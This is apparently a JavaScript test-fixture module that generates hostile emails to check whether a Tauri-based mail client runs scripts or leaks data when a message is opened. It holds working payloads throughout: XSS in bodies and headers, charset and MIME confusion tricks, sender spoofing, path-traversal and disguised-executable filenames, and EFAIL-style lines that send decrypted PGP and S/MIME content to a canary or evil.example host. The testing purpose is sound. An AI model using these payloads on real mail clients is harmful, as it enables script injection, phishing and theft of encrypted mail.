// Every hostile mail: an id, its family, and its bytes. What the markers mean is said in markup.mjs.
import { FAMILIES, page } from './markup.mjs';
import { attachment, htmlPart, letter, letterBytes, multipart, textPart } from './letters.mjs';

/** What reading never asks for, so that a single call of it stands out. */
export const PROBE = 'settings_save';

/** Everything a script of a stranger would try, without double quotes, so that it fits into attributes. */
export const scriptFor = (id, canary) =>
  `top.__pwned='${id}';document.title='pwned ${id}';fetch('${canary}/j-${id}');new Image().src='${canary}/i-${id}';top.__TAURI_INTERNALS__.invoke('${PROBE}',{req:{}});open('${canary}/w-${id}');top.location='${canary}/t-${id}';alert('${id}')`;

function fill(text, id, canary) {
  return text
    .replaceAll('%J', scriptFor(id, canary))
    .replaceAll('%U', `${canary}/u-${id}`)
    .replaceAll('%X', `http://${id}.x.evil.example/p`)
    .replaceAll('%I', `http://203.0.113.66/${id}`)
    .replaceAll('%K', id);
}

const CARRIERS = ['base64', '8bit', 'quoted-printable'];
const IMG = '<img src="%U"><script>%J</script>';

/** Mails whose trick is in their structure. Each gives `{ body, headers }` or `{ type, bytes }`. */
const confusion = [
  () => ({ body: textPart(page(IMG), 'text/plain') }), () => ({ body: htmlPart(page(IMG), 'base64', 'text/plain; charset=utf-8; x="text/html"') }), () => ({ body: htmlPart(page(IMG), '8bit', 'TEXT/HTML') }), () => ({ body: htmlPart(page(IMG), '8bit', 'text/html;charset="utf-8";charset=utf-7') }),
  () => ({ body: htmlPart(page(IMG), '8bit', 'text/xml') }), () => ({ body: htmlPart(page(IMG), '8bit', 'application/xhtml+xml') }), () => ({ body: htmlPart(`<svg xmlns="http://www.w3.org/2000/svg"><script>%J</script><image href="%U"/></svg>`, '8bit', 'image/svg+xml') }), () => ({ body: htmlPart(page(IMG), '8bit', 'text/html; charset=utf-7') }),
  () => ({ type: 'text/html; charset=utf-7', bytes: '+ADw-script+AD4-%J+ADw-/script+AD4-+ADw-img src+AD0-%U+AD4-' }), () => ({ type: 'text/html; charset=utf-16le', bytes: page(IMG), encode: 'utf16le', encoding: 'base64' }), () => ({ type: 'text/html; charset=utf-16', bytes: `\ufeff${page(IMG)}`, encode: 'utf16le', encoding: 'base64' }), () => ({ type: 'text/html; charset=iso-2022-jp', bytes: `\u001b(J${page(IMG)}\u001b$B<script>%J</script>\u001b(B` }),
  () => ({ type: 'text/html; charset=hz-gb-2312', bytes: `~{<script>%J</script>~}${IMG}` }), () => ({ type: 'text/html; charset=x-user-defined', bytes: page(IMG) }), () => ({ type: 'text/html; charset=no-such-thing', bytes: page(IMG) }), () => ({ type: 'text/html; charset=utf-8', bytes: `\u0000\u0000${page(IMG)}\u0000` }), () => ({ type: 'text/html; charset=ibm037', bytes: page(IMG) }),
  () => ({ body: multipart('mixed', [textPart('hello'), htmlPart(page(IMG))]) }), () => ({ body: multipart('alternative', [htmlPart(page(IMG)), textPart('plain is last')]) }), () => ({ body: multipart('alternative', [textPart('x'), htmlPart(page(IMG)), htmlPart(page('<iframe src="%U"></iframe>'))]) }), () => ({ body: multipart('related', [htmlPart(page('<img src="cid:a"><link rel=stylesheet href="cid:b">')), attachment('a.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="1"><script>1</script></svg>', 'inline').replace('Content-Disposition', 'Content-ID: <a>\r\nContent-Disposition')]) }),
  () => ({ body: multipart('related', [htmlPart(page('<img src="cid:a">')), attachment('a.png', 'image/png', '<script>1</script>', 'inline').replace('Content-Disposition', 'Content-ID: <a>\r\nContent-Disposition')]) }), () => ({ body: multipart('related', [htmlPart(page('<iframe src="cid:a"></iframe>')), attachment('a.html', 'text/html', '<script>1</script>', 'inline').replace('Content-Disposition', 'Content-ID: <a>\r\nContent-Disposition')]) }),
  () => ({ body: multipart('mixed', [textPart('see file'), attachment('page.html', 'text/html', page(IMG))]) }), () => ({ body: multipart('mixed', [textPart('see file'), attachment('page.html', 'text/html', page(IMG), 'inline')]) }), () => ({ body: multipart('mixed', [textPart('x'), attachment('../../../etc/cron.d/x', 'text/html', '<script>1</script>')]) }), () => ({ body: multipart('mixed', [textPart('x'), attachment('<img src=x onerror=alert(1)>.pdf', 'application/pdf', 'x')]) }), () => ({ body: multipart('mixed', [textPart('x'), attachment('invoice.pdf\u202efdp.exe', 'application/pdf', 'MZ')]) }), () => ({ body: multipart('mixed', [textPart('x'), attachment('a.txt', 'application/x-msdownload', 'MZ')]) }),
  () => ({ body: `Content-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${IMG}\r\n--x--` }), () => ({ body: `Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\nContent-Type: text/html\r\n\r\n${IMG}\r\n----` }), () => ({ body: `Content-Type: multipart/alternative; boundary=a; boundary=b\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nx\r\n--b\r\nContent-Type: text/html\r\n\r\n${IMG}\r\n--b--\r\n--a--` }), () => ({ body: `Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n${IMG}` }), () => ({ body: `Content-Type: text/html\r\nContent-Type: text/plain\r\n\r\n${IMG}` }),
  () => ({ body: `Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${IMG}` }), () => ({ body: `Content-Type: text/html\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 x\r\n${IMG}\r\nend` }), () => ({ body: `Content-Type: text/html\r\n folded: 1\r\n\r\n${IMG}` }), () => ({ body: `Content-Type: text\r\n\r\n${page(IMG)}` }), () => ({ body: `Content-Type: text/html/plain\r\n\r\n${page(IMG)}` }), () => ({ body: `Content-Type: */*\r\n\r\n${page(IMG)}` }), () => ({ body: `X-Nothing: 1\r\n\r\n${page(IMG)}` }), () => ({ body: `Content-Type: text/html\r\n${IMG}` }),
  () => ({ body: `Content-Type: message/rfc822\r\n\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n${IMG}` }), () => ({ body: `Content-Type: message/external-body; access-type=URL; URL="%U"\r\n\r\nContent-Type: text/html\r\n\r\n` }), () => ({ body: `Content-Type: message/external-body; access-type=anon-ftp; site="203.0.113.66"; name=x\r\n\r\nContent-Type: text/html\r\n\r\n` }), () => ({ body: `Content-Type: message/partial; id=x; number=1; total=1\r\n\r\nContent-Type: text/html\r\n\r\n${IMG}` }), () => ({ body: multipart('digest', [`\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n${IMG}`]) }),
  () => ({ body: htmlPart(`BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:<img src=%U>\r\nURL:%U\r\nATTACH:%U\r\nX-ALT-DESC;FMTTYPE=text/html:<script>%J</script>\r\nEND:VEVENT\r\nEND:VCALENDAR`, '8bit', 'text/calendar; method=REQUEST') }), () => ({ body: multipart('alternative', [textPart('x'), htmlPart('BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nATTACH:%U\r\nEND:VALARM\r\nEND:VCALENDAR', '8bit', 'text/calendar')]) }), () => ({ body: htmlPart('BEGIN:VCARD\r\nPHOTO;VALUE=uri:%U\r\nEND:VCARD', '8bit', 'text/vcard') }), () => ({ body: htmlPart('<x-rich><param>%U</param></x-rich><script>%J</script>', '8bit', 'text/enriched') }), () => ({ body: htmlPart('{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%U"}}}', '8bit', 'text/rtf') }), () => ({ body: htmlPart('@import url(%U);', '8bit', 'text/css') }), () => ({ body: htmlPart('%J', '8bit', 'text/javascript') }),
  () => ({ body: htmlPart('%PDF-1.4 %U', '8bit', 'application/pdf') }), () => ({ body: htmlPart('<!doctype html><script>%J</script>', 'base64', 'image/png') }), () => ({ body: multipart('report; report-type=delivery-status', [textPart('bounce'), htmlPart(`Remote-MTA: dns; <script>%J</script>`, '8bit', 'message/delivery-status')]) }), () => ({ body: multipart('appledouble', [textPart('x'), htmlPart(IMG)]) }), () => ({ body: multipart('x-mixed-replace', [htmlPart(IMG), htmlPart(IMG)]) }), () => ({ body: multipart('form-data', [htmlPart(IMG)]) }), () => ({ body: multipart('mixed', [multipart('mixed', [multipart('mixed', [htmlPart(page(IMG))], { boundary: 'b3' })], { boundary: 'b2' })], { boundary: 'b1' }) }),
];

/** Headers that are shown somewhere in the window. */
const headers = [
  { Subject: '<script>%J</script>' }, { Subject: '<img src=%U onerror="%J">' }, { Subject: '=?utf-8?B?PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+?=' }, { Subject: '=?utf-7?Q?+ADw-script+AD4-top.__pwned=3D1+ADw-/script+AD4-?=' }, { Subject: '{@html "<img src=x onerror=1>"} ${7*7} {{7*7}}' }, { Subject: `x\r\n\tfolded <b>` }, { Subject: 'a\u202egnp.exe' }, { Subject: '\u2066\u202e\u2069'.repeat(400) }, { Subject: 'Z\u0335\u0321\u0322'.repeat(300) }, { Subject: 'A'.repeat(20_000) },
  { From: '"<img src=%U onerror=\'%J\'>" <x@evil.example>' }, { From: '"ceo@bank.example" <x@evil.example>' }, { From: '=?utf-8?Q?=00ceo@bank.example?= <x@evil.example>' }, { From: 'ceo@bank.example <ceo@bank.example> <x@evil.example>' }, { From: '"Bank\u202e" <x@evil.example>' }, { From: 'x@evil.example\r\nFrom: ceo@bank.example' }, { From: '(<script>%J</script>) x@evil.example' }, { From: '"x" <"<script>%J</script>"@evil.example>' }, { From: 'ceo@bаnk.example' }, { From: '' },
  { To: '"<svg onload=%J>" <test@home.example>' }, { Cc: Array.from({ length: 500 }, (_, i) => `"<b>${i}" <u${i}@evil.example>`).join(', ') }, { 'Reply-To': '"Bank" <javascript:%J@evil.example>' }, { 'List-Unsubscribe': '<%U>, <mailto:x@evil.example>', 'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click' }, { 'List-Unsubscribe': '<javascript:%J>' }, { 'List-Unsubscribe': '<%X>' }, { 'Disposition-Notification-To': 'x@evil.example', 'Return-Receipt-To': 'x@evil.example' }, { 'X-Face': 'x', 'Face': 'iVBORw0KGgo=', 'BIMI-Location': 'v=BIMI1; l=%U' }, { 'X-Image-Url': '%U', 'X-Avatar': '%U' }, { 'Content-Location': '%U', 'Content-Base': '%U' }, { 'Link': '<%U>; rel=preload', 'Refresh': '0;url=%U' }, { 'Autocrypt': 'addr=x@evil.example; keydata=%U' },
  { 'OpenPGP': 'url=%U' }, { 'Authentication-Results': 'home.example; dkim=pass; spf=pass; dmarc=pass (<script>%J</script>)' }, { Date: '<script>%J</script>' }, { Date: 'Fri, 31 Dec 9999 23:59:59 +0000' }, { 'Message-ID': '<"><script>%J</script>@x>' }, { References: '<a@b> '.repeat(2000) }, { 'In-Reply-To': '<payload@x>\u0000<script>' },
];

const SECRET = '-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0secretsecretsecret\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n';
const PKCS7 = 'MIAGCSqGSIb3DQEHA6CAMIACAQAxggE=';
const enveloped = (type = 'enveloped-data') => `Content-Type: application/pkcs7-mime; smime-type=${type}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${PKCS7}\r\n`;
const pgp = () => multipart('encrypted', ['Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n', `Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n${SECRET}`], { boundary: 'pgp', parameters: '; protocol="application/pgp-encrypted"' });
// Direct exfiltration: an open quote before the secret, its end after it. EFAIL (Poddebniak et al., 2018) and its relatives.
const OPENERS = ['<img src="%U?', "<img src='%U?", '<a href="%U?', '<link rel=stylesheet href="%U?', '<style>@import "%U?', '<p style="background:url(%U?', '<form action="%U"><textarea name=x>', '<form action="%U"><button>x</button><select name=x><option>', '<object data="%U?', '<svg><image href="%U?', '<meta http-equiv=refresh content="0;url=%U?', '<iframe srcdoc="<img src=%U?'];
const efail = [
  ...OPENERS.map((open) => ({ body: multipart('mixed', [htmlPart(open, '8bit'), enveloped(), htmlPart('">', '8bit')]) })), ...OPENERS.slice(0, 6).map((open) => ({ body: multipart('mixed', [htmlPart(open, '8bit'), pgp(), htmlPart('">', '8bit')]) })), ...OPENERS.slice(0, 4).map((open) => ({ body: multipart('mixed', [htmlPart(open, '8bit'), textPart(SECRET), htmlPart('">', '8bit')]) })),
  { body: enveloped() }, { body: enveloped('signed-data') }, { body: enveloped('authEnveloped-data') }, { body: pgp() }, { body: textPart(SECRET) }, { body: htmlPart(`<img src="%U?${SECRET}">`) }, { body: multipart('signed', [htmlPart(page(IMG)), `Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n${PKCS7}\r\n`], { parameters: '; protocol="application/pkcs7-signature"; micalg=sha-256' }) }, { body: multipart('mixed', [multipart('signed', [textPart('signed words'), 'Content-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n'], { boundary: 'sig' }), htmlPart('<style>p{display:none}</style><p>%U', '8bit')]) },
  { body: multipart('related', [htmlPart('<img src="cid:secret"><img src="%U?', '8bit'), pgp().replace('Content-Type: multipart', 'Content-ID: <secret>\r\nContent-Type: multipart')]) }, { body: multipart('alternative', [pgp(), htmlPart('<img src="%U?">', '8bit')]) }, { body: `Content-Type: message/rfc822\r\n\r\n${pgp()}` },
];

/** All of them: `{ id, family, raw }`. `canary` is an address on this machine without a slash at its end. */
export function payloads(canary) {
  const out = [];
  const add = (family, make) => {
    const id = `${family}-${out.filter((p) => p.family === family).length + 1}`;
    out.push({ id, family, raw: make(id, out.length) });
  };
  for (const [family, list] of Object.entries(FAMILIES)) {
    for (const html of list) {
      add(family, (id, n) => {
        const whole = fill(page(html), id, canary);
        const part = htmlPart(whole, CARRIERS[n % 3]);
        return letter({ id, n, body: n % 4 === 3 ? multipart('alternative', [textPart('the plain words'), part]) : part });
      });
    }
  }
  for (const make of confusion) {
    add('confusion', (id, n) => {
      const made = make();
      if (made.body === undefined) return letterBytes({ id, n, type: made.type, encoding: made.encoding, bytes: Buffer.from(fill(made.bytes, id, canary), made.encode ?? 'utf8') });
      // Markers inside base64 would not be found: structures are filled before they are encoded.
      return letter({ id, n, body: refill(made.body, id, canary) });
    });
  }
  for (const extra of headers) {
    add('headers', (id, n) => letter({ id, n, headers: Object.fromEntries(Object.entries(extra).map(([k, v]) => [k, fill(v, id, canary)])), body: htmlPart(page(`<p>${id}</p>`)) }));
  }
  for (const { body } of efail) add('efail', (id, n) => letter({ id, n, body: refill(body, id, canary) }));
  return out;
}

/** As many mails without any trick, in the same three carriers: what opening them costs is what opening costs. */
export function harmless(count) {
  return Array.from({ length: count }, (_, i) => {
    const id = `harmless-${i + 1}`;
    const part = htmlPart(page(`<p style="color:#333">Words number ${i + 1}, <a href="https://shop.example/${i}">a link</a> and a list.</p><ul><li>one<li>two</ul>`), CARRIERS[i % 3]);
    return letter({ id, n: i, body: i % 4 === 3 ? multipart('alternative', [textPart('the plain words'), part]) : part, headers: { Subject: `harmless ${i + 1}` } });
  });
}

/** Fills markers also inside base64 parts. */
function refill(body, id, canary) {
  const decoded = body.replace(/(Content-Transfer-Encoding: base64\r\n\r\n)([A-Za-z0-9+/=\r\n]+?)(?=\r\n--|\r\n?$|$)/g, (_, head, data) => {
    const text = Buffer.from(data, 'base64');
    return text.includes('%') ? head + Buffer.from(fill(text.toString('utf8'), id, canary)).toString('base64').replace(/.{76}/g, '$&\r\n') : head + data;
  });
  return fill(decoded, id, canary);
}

/** A sample that has something of every family: every n-th of each. */
export function sample(all, size) {
  const out = [];
  for (const family of new Set(all.map((p) => p.family))) {
    const list = all.filter((p) => p.family === family);
    const share = Math.max(1, Math.round((list.length / all.length) * size));
    for (let i = 0; i < share; i += 1) out.push(list[Math.floor((i * list.length) / share)]);
  }
  return out;
}
